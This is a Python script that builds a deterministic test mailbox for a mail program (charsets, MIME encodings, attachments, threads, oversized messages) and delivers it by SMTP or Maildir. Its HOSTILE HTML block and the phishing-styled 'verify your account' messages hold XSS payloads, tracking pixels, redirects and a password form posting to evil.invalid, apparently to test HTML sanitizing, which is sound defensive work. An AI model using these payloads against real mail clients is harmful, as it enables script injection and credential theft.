#!/usr/bin/python3
"""Makes a realistic sample mailbox and delivers it.

    genmail.py [--to USER] [--count N] [--seed S] [--small]
               [--smtp HOST:PORT] [--env FILE] [--eml DIR] [--maildir DIR]
               [--list]

Without --count the mailbox is the sample set: one message of each kind the
program must show well (plain, quoted-printable and base64 bodies; RFC 2047
headers in utf-8, iso-8859-1, windows-1252, iso-2022-jp and koi8-r; attachments
of several types; HTML alternatives, one of them hostile; inline images by
Content-ID; a forwarded message; a uuencoded file; no Message-ID; long lines;
one message over 100 KB and one over 4 MB).  --count N gives N messages: the
sample set first (as much of it as fits), then ordinary varied mail, for load
tests.  --small leaves out the two big messages.

Everything is derived from --seed (default 1): the same arguments give the
same bytes, so tests can assert on what was delivered (--list prints one line
per message: number, kind, size, subject).

Delivery: by SMTP to USER@domain (default), with the host and port of the
plain SMTP port in servers.env (--env, default $LARKSPUR_RUN/servers.env or
run/servers/servers.env), all messages over one connection; --maildir DIR
writes straight into a Maildir instead (for 10,000 messages; files owned by
the mail user), --eml DIR writes NNNN-kind.eml files.  Several of these may
be given together.
"""

import argparse
import base64
import binascii
import os
import pwd
import quopri
import random
import smtplib
import socket
import sys
import time

CRLF = "\r\n"
BASE_DATE = 1704067200  # Mon, 1 Jan 2024 00:00:00 UTC
DOMAIN = "example.test"

FIRST = ["Anna", "Bruno", "Chloé", "Dmitri", "Eva", "Farid", "Grace", "Hiro", "Inés", "Jonas",
         "Karin", "Luca", "Maja", "Noah", "Olga", "Pierre", "Quinn", "Rosa", "Sven", "Tomoko"]
LAST = ["Andersson", "Brown", "Costa", "Dubois", "Eriksen", "Fischer", "García", "Hansen",
        "Ivanova", "Jensen", "Kowalski", "Lindqvist", "Müller", "Nakamura", "Okafor", "Petrov"]
ORGS = ["example.org", "example.net", "mail.example.com", "lists.example.org", "corp.example"]
TOPICS = ["quarterly report", "team lunch", "server maintenance", "invoice 4471", "holiday plans",
          "project kickoff", "meeting notes", "new office", "budget review", "release 2.8",
          "conference travel", "password policy", "weekly digest", "book club", "garden party",
          "car pool", "training session", "customer feedback", "draft contract", "photos"]
WORDS = ("the a we you they please thanks meeting report attached see below about next week "
         "monday friday update plan numbers team office project schedule review notes call "
         "agree question answer soon later today tomorrow morning afternoon budget draft final "
         "version changes comments list items order delivery customer support issue fixed").split()


def rfc2047(text, charset, enc="B"):
    """One or more encoded-words for TEXT in CHARSET."""
    raw = text.encode(charset)
    if enc == "B":
        words = []
        # Keep each encoded-word within 75 characters and whole characters
        # (iso-2022-jp escapes make splitting unsafe: keep it in one word).
        step = 45 if charset.lower() != "iso-2022-jp" else len(raw)
        i = 0
        chars = text
        if charset.lower() == "iso-2022-jp":
            return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())
        while chars:
            n = len(chars)
            while len(chars[:n].encode(charset)) > step:
                n -= 1
            words.append("=?%s?B?%s?=" % (charset, base64.b64encode(chars[:n].encode(charset)).decode()))
            chars = chars[n:]
            i += 1
        return "\r\n ".join(words)
    out = []
    for b in raw:
        c = chr(b)
        if c == " ":
            out.append("_")
        elif c.isalnum() and b < 128:
            out.append(c)
        else:
            out.append("=%02X" % b)
    return "=?%s?Q?%s?=" % (charset, "".join(out))


def qp(text, charset="utf-8"):
    data = text.replace("\r\n", "\n").encode(charset)
    return quopri.encodestring(data).decode("ascii").replace("\n", CRLF)


def b64(data):
    enc = base64.b64encode(data).decode()
    return CRLF.join(enc[i:i + 76] for i in range(0, len(enc), 76)) + CRLF


def uuencode(data, name):
    lines = ["begin 644 %s" % name]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i:i + 45]).decode().rstrip("\n"))
    lines += ["`", "end"]
    return CRLF.join(lines) + CRLF


def png(rng, w=16, h=16):
    """A small valid PNG (solid colour; deterministic)."""
    import struct
    import zlib
    r, g, b = rng.randrange(256), rng.randrange(256), rng.randrange(256)
    raw = b"".join(b"\x00" + bytes([r, g, b]) * w for _ in range(h))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def pdf(text):
    body = "BT /F1 18 Tf 40 100 Td (%s) Tj ET" % text
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            "<< /Length %d >>\nstream\n%s\nendstream" % (len(body), body),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = "%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += "%d 0 obj\n%s\nendobj\n" % (i, o)
    xref = len(out)
    out += "xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += "".join("%010d 00000 n \n" % o for o in offs)
    out += "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out.encode("latin-1")


def zipfile_bytes(files):
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 12, 0, 0))
            z.writestr(info, data)
    return buf.getvalue()


class Maker:
    def __init__(self, seed, user, domain):
        self.rng = random.Random(seed)
        self.seed = seed
        self.user = user
        self.domain = domain
        self.n = 0

    def date(self, n):
        t = BASE_DATE + n * 3607 + self.rng.randrange(3600)
        zones = [("+0000", 0), ("+0100", 3600), ("-0500", -18000), ("+0900", 32400), ("+0530", 19800)]
        z, off = zones[n % len(zones)]
        return time.strftime("%a, %d %b %Y %H:%M:%S ", time.gmtime(t + off)) + z

    def person(self):
        f, l = self.rng.choice(FIRST), self.rng.choice(LAST)
        addr = "%s.%s@%s" % (f.lower(), l.lower(), self.rng.choice(ORGS))
        addr = addr.encode("ascii", "ignore").decode()
        return f + " " + l, addr

    def sentence(self, k=None):
        k = k or self.rng.randrange(6, 16)
        s = " ".join(self.rng.choice(WORDS) for _ in range(k))
        return s[0].upper() + s[1:] + "."

    def paragraph(self, k=None):
        return " ".join(self.sentence() for _ in range(k or self.rng.randrange(2, 6)))

    def wrap(self, text, width=72):
        out, line = [], ""
        for w in text.split(" "):
            if line and len(line) + 1 + len(w) > width:
                out.append(line)
                line = w
            else:
                line = (line + " " + w) if line else w
        if line:
            out.append(line)
        return CRLF.join(out)

    def boundary(self, tag):
        return "=_lk_%s_%d_%d" % (tag, self.seed, self.n)

    def headers(self, subject, frm=None, extra=(), msgid=True, to=None, date=True):
        name, addr = frm or self.person()
        h = []
        if date:
            h.append("Date: " + self.date(self.n))
        if any(ord(c) > 127 for c in name):
            h.append("From: %s <%s>" % (rfc2047(name, "utf-8", "Q"), addr))
        else:
            h.append('From: "%s" <%s>' % (name, addr))
        h.append("To: " + (to or "%s@%s" % (self.user, self.domain)))
        if subject is not None:
            h.append("Subject: " + subject)
        if msgid:
            h.append("Message-ID: <lk.%d.%d.%08x@%s>" % (self.seed, self.n, self.rng.getrandbits(32), addr.split("@")[1]))
        h.append("MIME-Version: 1.0")
        h.extend(extra)
        return CRLF.join(h) + CRLF

    # -- the sample set ---------------------------------------------------
    def plain(self):
        body = CRLF.join(self.wrap(self.paragraph()) + CRLF for _ in range(3))
        body += CRLF + "-- " + CRLF + "Sent from a desk" + CRLF
        return "plain", self.headers("Lunch on Friday?", extra=[
            "Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit"]) + CRLF + body

    def quoted_printable(self):
        text = ("Grüße aus München!\n\nDie Preise: 5 € pro Stück, Straße gesperrt — "
                "wir treffen uns im Café „Zur Linde“.\nA line with a trailing space \n"
                "and = equals = signs and a very long line that has to be broken by soft line breaks "
                "because quoted-printable lines may not exceed seventy-six characters.\n")
        return "quoted-printable", self.headers(rfc2047("Grüße aus München", "utf-8", "Q"), extra=[
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: quoted-printable"]) + CRLF + qp(text)

    def base64_body(self):
        text = "Привет! Это письмо в кодировке base64 и utf-8.\nЕщё одна строка.\n日本語も少し。\n"
        return "base64", self.headers("Base64 body (utf-8)", extra=[
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: base64"]) + CRLF + b64(text.replace("\n", "\r\n").encode())

    def charsets(self):
        out = []
        cases = [
            ("iso-8859-1", "Q", "Café crème à la carte", "Le menu du jour: café, crème brûlée, façade.\n"),
            ("windows-1252", "Q", "“Smart quotes” cost 5 €", "Prices – in € – and ‘quotes’ … done.\n"),
            ("iso-2022-jp", "B", "会議の予定について", "来週の会議は月曜日の午前十時からです。\n"),
            ("koi8-r", "B", "Привет из Москвы", "Погода хорошая, ждём вас в гости.\n"),
        ]
        for cs, enc, subj, body in cases:
            self.n += 1
            name = {"iso-8859-1": "François Dupré", "windows-1252": "Zoë O’Brien",
                    "iso-2022-jp": "山田 太郎", "koi8-r": "Ольга Петрова"}[cs]
            addr = "sender.%s@example.org" % cs.replace("-", "")
            cte = "7bit" if cs == "iso-2022-jp" else "8bit"
            if cs in ("iso-8859-1", "windows-1252"):
                cte = "quoted-printable"
                data = qp(body, cs)
            else:
                data = body.replace("\n", CRLF).encode(cs).decode("latin-1")
            h = self.headers(rfc2047(subj, cs, enc), frm=(name, addr), extra=[
                "Content-Type: text/plain; charset=%s" % cs, "Content-Transfer-Encoding: " + cte])
            # The display name in its own charset, as a sender's program would.
            h = h.replace("From: %s <%s>" % (rfc2047(name, "utf-8", "Q"), addr),
                          "From: %s <%s>" % (rfc2047(name, cs, enc), addr))
            out.append(("charset-" + cs, h + CRLF + data))
        return out

    def raw_8bit_header(self):
        body = "Ce message a un en-tête en UTF-8 brut, sans encodage RFC 2047.\n".replace("\n", CRLF)
        h = self.headers("Réunion à 14h — salle Ève", frm=("Zoé Martin", "zoe.martin@example.net"), extra=[
            "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"])
        return "raw-8bit-header", (h + CRLF + body)

    def attachments(self):
        b = self.boundary("mixed")
        csv = "date,item,amount\r\n2024-01-02,paper,12.50\r\n2024-01-03,\"ink, black\",30.00\r\n"
        parts = [
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
            "Please find the files attached: a PDF, a picture, a spreadsheet, an archive\r\n"
            "and something binary.\r\n",
            "Content-Type: application/pdf; name=\"report.pdf\"\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename=\"report.pdf\"\r\n\r\n" + b64(pdf("Quarterly report")),
            "Content-Type: image/png; name=\"chart.png\"\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename=\"chart.png\"\r\n\r\n" + b64(png(self.rng, 64, 32)),
            "Content-Type: text/csv; charset=us-ascii; name=\"costs.csv\"\r\n"
            "Content-Disposition: attachment; filename=\"costs.csv\"\r\n\r\n" + csv,
            "Content-Type: application/zip; name=\"archive.zip\"\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename=\"archive.zip\"\r\n\r\n"
            + b64(zipfile_bytes([("readme.txt", "hello\n"), ("data/numbers.txt", "1 2 3\n")])),
            "Content-Type: application/octet-stream; name=\"blob.bin\"\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename*=utf-8''d%C3%A9j%C3%A0%20vu.bin\r\n\r\n"
            + b64(self.rng.randbytes(700)),
            "Content-Type: text/plain; charset=utf-8; name=\"notes.txt\"\r\nContent-Transfer-Encoding: 7bit\r\n"
            "Content-Disposition: inline; filename=\"notes.txt\"\r\n\r\nAn inline text part.\r\n",
        ]
        body = "This is a multi-part message in MIME format.\r\n" + "".join(
            "--%s\r\n%s" % (b, p) for p in parts) + "--%s--\r\n" % b
        return "attachments", self.headers("Files for the quarterly report", extra=[
            'Content-Type: multipart/mixed; boundary="%s"' % b]) + CRLF + body

    def alternative(self):
        b = self.boundary("alt")
        text = "Hello,\r\n\r\nThe newsletter: three items this week.\r\n"
        html = ("<html><body><h1>Newsletter</h1><p>Three <b>items</b> this week:</p>"
                "<ul><li>One</li><li>Two &amp; more</li><li>Caf&eacute;</li></ul>"
                "<p><a href=\"http://example.org/more\">Read more</a></p></body></html>")
        body = ("--%s\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s"
                "--%s\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n"
                "--%s--\r\n") % (b, text, b, qp(html), b)
        return "alternative", self.headers("Newsletter: three items", extra=[
            'Content-Type: multipart/alternative; boundary="%s"' % b]) + CRLF + body

    HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">
<style>body { background: url(http://tracker.invalid/bg.png) } .hide { display:none }</style>
<script>alert('xss-script')</script>
<base href="http://evil.invalid/">
</head>
<body onload="alert('xss-onload')">
<p>Dear customer, your <b>account</b> needs attention.</p>
<a href="javascript:alert('xss-href')">Click here</a>
<a href=" JaVaScRiPt:alert('xss-mixed-case')">or here</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==">or this one</a>
<img src="http://tracker.invalid/pixel.gif" width="1" height="1">
<img src="x" onerror="alert('xss-onerror')">
<iframe src="http://evil.invalid/frame"></iframe>
<svg onload="alert('xss-svg')"><script>alert('xss-svg-script')</script></svg>
<form action="http://evil.invalid/phish" method="post"><input type="password" name="pw"><input type="submit"></form>
<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/y.swf">
<div style="background-image:url(javascript:alert('xss-style'))">styled text</div>
<p onmouseover="alert('xss-mouseover')">Hover text</p>
<link rel="stylesheet" href="http://evil.invalid/style.css">
<p>A <a href="http://example.org/safe">safe link</a> stays.</p>
</body></html>
"""

    def hostile(self):
        b = self.boundary("hostile")
        text = "Your account needs attention. (The HTML part of this message is hostile.)\r\n"
        body = ("--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n%s"
                "--%s\r\nContent-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n%s"
                "--%s--\r\n") % (b, text, b, self.HOSTILE.replace("\n", CRLF), b)
        return "hostile-html", self.headers("Urgent: verify your account", frm=(
            "Security Team", "security@phish.invalid"), extra=[
            'Content-Type: multipart/alternative; boundary="%s"' % b]) + CRLF + body

    def html_only_hostile(self):
        return "hostile-html-only", self.headers("HTML only, with scripts", extra=[
            "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64"]) + CRLF + b64(
            self.HOSTILE.replace("\n", CRLF).encode())

    def inline_images(self):
        rel, alt = self.boundary("rel"), self.boundary("relalt")
        html = ("<html><body><p>Our new logo:</p><img src=\"cid:logo.123@example.org\" alt=\"logo\">"
                "<p>and the team photo:</p><img src=\"cid:photo.456@example.org\"></body></html>")
        body = ("--{r}\r\nContent-Type: multipart/alternative; boundary=\"{a}\"\r\n\r\n"
                "--{a}\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nOur new logo and the team photo.\r\n"
                "--{a}\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n{html}\r\n--{a}--\r\n"
                "--{r}\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n"
                "Content-ID: <logo.123@example.org>\r\nContent-Disposition: inline; filename=\"logo.png\"\r\n\r\n{p1}"
                "--{r}\r\nContent-Type: image/png; name=\"photo.png\"\r\nContent-Transfer-Encoding: base64\r\n"
                "Content-ID: <photo.456@example.org>\r\n\r\n{p2}--{r}--\r\n").format(
            r=rel, a=alt, html=html, p1=b64(png(self.rng, 48, 24)), p2=b64(png(self.rng, 32, 32)))
        return "inline-images", self.headers("Our new logo", extra=[
            'Content-Type: multipart/related; boundary="%s"; type="multipart/alternative"' % rel]) + CRLF + body

    def forwarded(self):
        b = self.boundary("fwd")
        inner = ("Date: Tue, 2 Jan 2024 09:00:00 +0100\r\nFrom: Original Sender <orig@example.net>\r\n"
                 "To: someone@example.org\r\nSubject: " + rfc2047("Das Original", "iso-8859-1", "Q") + "\r\n"
                 "Message-ID: <orig.1@example.net>\r\nMIME-Version: 1.0\r\n"
                 "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                 + qp("Der ursprüngliche Text.\n", "iso-8859-1"))
        body = ("--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nForwarding this, see below.\r\n"
                "--%s\r\nContent-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n%s"
                "--%s--\r\n") % (b, b, inner, b)
        return "forwarded", self.headers("Fwd: Das Original", extra=[
            'Content-Type: multipart/mixed; boundary="%s"' % b]) + CRLF + body

    def uuencoded(self):
        data = ("A file sent the old way.\n" * 20).encode()
        body = ("Here is the file, uuencoded as in the old days:\r\n\r\n" + uuencode(data, "oldway.txt")
                + "\r\nBye.\r\n")
        return "uuencoded", self.headers("File the old way", extra=[
            "Content-Type: text/plain; charset=us-ascii"]) + CRLF + body

    def no_message_id(self):
        return "no-message-id", self.headers("No Message-ID here", msgid=False, extra=[
            "Content-Type: text/plain; charset=us-ascii"]) + CRLF + "This message has no Message-ID header.\r\n"

    def no_subject_no_mime(self):
        h = ("Date: %s\r\nFrom: old.client@example.net\r\nTo: %s@%s\r\n" % (self.date(self.n), self.user, self.domain))
        return "no-subject", h + CRLF + "No subject, no MIME headers, no Message-ID.\r\n"

    def long_lines(self):
        long1 = "word " * 199 + "end"
        long2 = "x" * 980
        body = "Short line.\r\n" + long1 + "\r\n" + long2 + "\r\n" + "Last line.\r\n"
        many = ", ".join("person%d@example.org" % i for i in range(40))
        return "long-lines", self.headers("A subject that goes on and on " + "and on " * 20 + "until it ends",
                                          extra=["Cc: " + self.fold(many),
                                                 "Content-Type: text/plain; charset=us-ascii"]) + CRLF + body

    @staticmethod
    def fold(text):
        out, line = [], ""
        for part in text.split(", "):
            if line and len(line) + len(part) > 70:
                out.append(line + ",")
                line = " " + part
            else:
                line = (line + ", " + part) if line else part
        out.append(line)
        return "\r\n".join(out)

    def reply_thread(self):
        out = []
        frm = ("Grace Hansen", "grace.hansen@example.org")
        first_id = "<thread.%d.1@example.org>" % self.seed
        for i, subj in enumerate(["Plans for the offsite", "Re: Plans for the offsite",
                                  "RE: Re: Plans for the offsite"]):
            self.n += 1
            extra = ["Content-Type: text/plain; charset=us-ascii"]
            if i:
                extra += ["In-Reply-To: " + first_id, "References: " + first_id]
            h = self.headers(subj, frm=frm if i != 1 else self.person(), msgid=False, extra=extra)
            h += "Message-ID: <thread.%d.%d@example.org>\r\n" % (self.seed, i + 1)
            body = self.wrap(self.paragraph()) + CRLF
            if i:
                body += CRLF + "> " + self.wrap(self.paragraph(2)).replace(CRLF, CRLF + "> ") + CRLF
            out.append(("thread-%d" % (i + 1), h + CRLF + body))
        return out

    def big(self, kind, target):
        b = self.boundary(kind)
        if target > 1000000:
            # Mostly an attachment, as big mail usually is.
            raw = self.rng.randbytes(target * 3 // 4)
            body = ("--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nThe scans, as promised.\r\n"
                    "--%s\r\nContent-Type: application/octet-stream; name=\"scans.tar\"\r\n"
                    "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"scans.tar\"\r\n\r\n"
                    "%s--%s--\r\n") % (b, b, b64(raw), b)
            return kind, self.headers("Scans (large)", extra=[
                'Content-Type: multipart/mixed; boundary="%s"' % b]) + CRLF + body
        lines = []
        size = 0
        while size < target:
            line = self.wrap(self.paragraph(8))
            lines.append(line)
            size += len(line) + 2
        text = CRLF.join(lines) + CRLF
        return kind, self.headers("Minutes of the annual meeting (long)", extra=[
            "Content-Type: text/plain; charset=us-ascii"]) + CRLF + text

    def sample(self, small):
        makers = [self.plain, self.quoted_printable, self.base64_body, self.charsets, self.raw_8bit_header,
                  self.attachments, self.alternative, self.hostile, self.html_only_hostile,
                  self.inline_images, self.forwarded, self.uuencoded, self.no_message_id,
                  self.no_subject_no_mime, self.long_lines, self.reply_thread]
        if not small:
            makers += [lambda: self.big("big-100k", 110 * 1024), lambda: self.big("big-4m", 4 * 1024 * 1024 + 4096)]
        out = []
        for m in makers:
            self.n += 1
            r = m()
            out.extend(r if isinstance(r, list) else [r])
        return out

    # -- load-test filler ---------------------------------------------------
    def filler(self):
        self.n += 1
        topic = self.rng.choice(TOPICS)
        subj = self.rng.choice(["", "", "Re: ", "Fwd: "]) + topic[0].upper() + topic[1:]
        k = self.rng.random()
        body = CRLF.join(self.wrap(self.paragraph()) + CRLF for _ in range(self.rng.randrange(1, 5)))
        if k < 0.7:
            return "filler-text", self.headers(subj, extra=["Content-Type: text/plain; charset=us-ascii"]) + CRLF + body
        if k < 0.9:
            b = self.boundary("f")
            html = "<html><body><p>%s</p></body></html>" % self.paragraph()
            return "filler-alt", self.headers(subj, extra=['Content-Type: multipart/alternative; boundary="%s"' % b]) \
                + CRLF + ("--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n%s--%s\r\n"
                          "Content-Type: text/html; charset=us-ascii\r\n\r\n%s\r\n--%s--\r\n") % (b, body, b, html, b)
        b = self.boundary("f")
        att = self.rng.randbytes(self.rng.randrange(500, 20000))
        return "filler-attachment", self.headers(subj, extra=['Content-Type: multipart/mixed; boundary="%s"' % b]) \
            + CRLF + ("--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n%s--%s\r\n"
                      "Content-Type: application/octet-stream; name=\"file%d.dat\"\r\nContent-Transfer-Encoding: base64\r\n"
                      "Content-Disposition: attachment; filename=\"file%d.dat\"\r\n\r\n%s--%s--\r\n") % (
                b, body, b, self.n, self.n, b64(att), b)


def messages(seed, user, domain, count=None, small=False):
    """[(kind, bytes)] of the mailbox, deterministic for the arguments."""
    m = Maker(seed, user, domain)
    out = [(k, t.encode("latin-1") if isinstance(t, str) and all(ord(c) < 256 for c in t) else t.encode("utf-8"))
           for k, t in m.sample(small)]
    if count is not None:
        out = out[:count]
        while len(out) < count:
            k, t = m.filler()
            out.append((k, t.encode("latin-1")))
    return out


def subject_of(data):
    for line in data.split(b"\r\n"):
        if not line:
            break
        if line.lower().startswith(b"subject:"):
            return line[8:].strip().decode("latin-1")
    return ""


def read_env(path):
    env = {}
    with open(path) as f:
        for line in f:
            line = line.strip()
            if "=" in line and not line.startswith("#"):
                k, _, v = line.partition("=")
                env[k] = v
    return env


def deliver_smtp(msgs, host, port, rcpt, sender):
    """All messages over one SMTP connection; returns the count accepted."""
    s = smtplib.SMTP(host, port, timeout=120)
    try:
        s.ehlo("genmail.example.test")
        done = 0
        for i, (_, data) in enumerate(msgs, 1):
            refused = s.sendmail(sender, [rcpt], data)
            if refused:
                raise RuntimeError("message %d refused: %s" % (i, refused))
            done += 1
        return done
    finally:
        try:
            s.quit()
        except (smtplib.SMTPException, OSError):
            pass


def deliver_maildir(msgs, maildir, owner="mail"):
    pw = pwd.getpwnam(owner)
    for sub in ("", "new", "cur", "tmp"):
        d = os.path.join(maildir, sub)
        os.makedirs(d, exist_ok=True)
        os.chown(d, pw.pw_uid, pw.pw_gid)
    host = socket.gethostname()
    stamp = int(time.time())
    for i, (_, data) in enumerate(msgs, 1):
        name = "%d.M%dP%d.%s,S=%d" % (stamp, i, os.getpid(), host, len(data))
        tmp = os.path.join(maildir, "tmp", name)
        with open(tmp, "wb") as f:
            f.write(data)
        os.chown(tmp, pw.pw_uid, pw.pw_gid)
        os.rename(tmp, os.path.join(maildir, "new", name))
    # Parents created above root's umask must stay the mail user's too.
    parent = os.path.dirname(maildir.rstrip("/"))
    if os.path.isdir(parent) and os.stat(parent).st_uid == 0:
        os.chown(parent, pw.pw_uid, pw.pw_gid)
    return len(msgs)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--to", help="user name (default: LK_DEMO_USER of servers.env)")
    ap.add_argument("--count", type=int)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--small", action="store_true", help="leave out the 100 KB and 4 MB messages")
    ap.add_argument("--smtp", help="HOST:PORT (default: the plain SMTP port of servers.env)")
    ap.add_argument("--env", help="servers.env to read")
    ap.add_argument("--domain", help="mail domain (default: LK_DOMAIN or example.test)")
    ap.add_argument("--eml", help="also write NNNN-kind.eml files into this directory")
    ap.add_argument("--maildir", help="write into this Maildir instead of SMTP")
    ap.add_argument("--no-smtp", action="store_true", help="no SMTP delivery (with --eml)")
    ap.add_argument("--list", action="store_true", help="print number, kind, size, subject per message")
    a = ap.parse_args(argv)

    env_path = a.env or os.path.join(os.environ.get("LARKSPUR_RUN") or os.path.join(
        os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "run", "servers"), "servers.env")
    env = read_env(env_path) if os.path.exists(env_path) else {}
    user = a.to or env.get("LK_DEMO_USER")
    if not user:
        sys.exit("genmail: name the user with --to (no servers.env at %s)" % env_path)
    domain = a.domain or env.get("LK_DOMAIN", DOMAIN)
    msgs = messages(a.seed, user, domain, a.count, a.small)

    if a.list:
        for i, (k, d) in enumerate(msgs, 1):
            print("%d\t%s\t%d\t%s" % (i, k, len(d), subject_of(d)))
    if a.eml:
        os.makedirs(a.eml, exist_ok=True)
        for i, (k, d) in enumerate(msgs, 1):
            with open(os.path.join(a.eml, "%04d-%s.eml" % (i, k)), "wb") as f:
                f.write(d)
    t = time.monotonic()
    if a.maildir:
        n = deliver_maildir(msgs, a.maildir)
        how = "into " + a.maildir
    elif a.no_smtp:
        n, how = 0, "nowhere (--no-smtp)"
    else:
        if a.smtp:
            host, _, port = a.smtp.rpartition(":")
        else:
            if "LK_SMTP_PORT" not in env:
                sys.exit("genmail: no SMTP server: give --smtp HOST:PORT or start the servers")
            host, port = env.get("LK_HOST", "127.0.0.1"), env["LK_SMTP_PORT"]
        n = deliver_smtp(msgs, host, int(port), "%s@%s" % (user, domain), "genmail@%s" % domain)
        how = "by SMTP to %s@%s" % (user, domain)
    print("genmail: %d messages (%d bytes) delivered %s in %.1f s" % (
        n, sum(len(d) for _, d in msgs), how, time.monotonic() - t), file=sys.stderr)


if __name__ == "__main__":
    main()
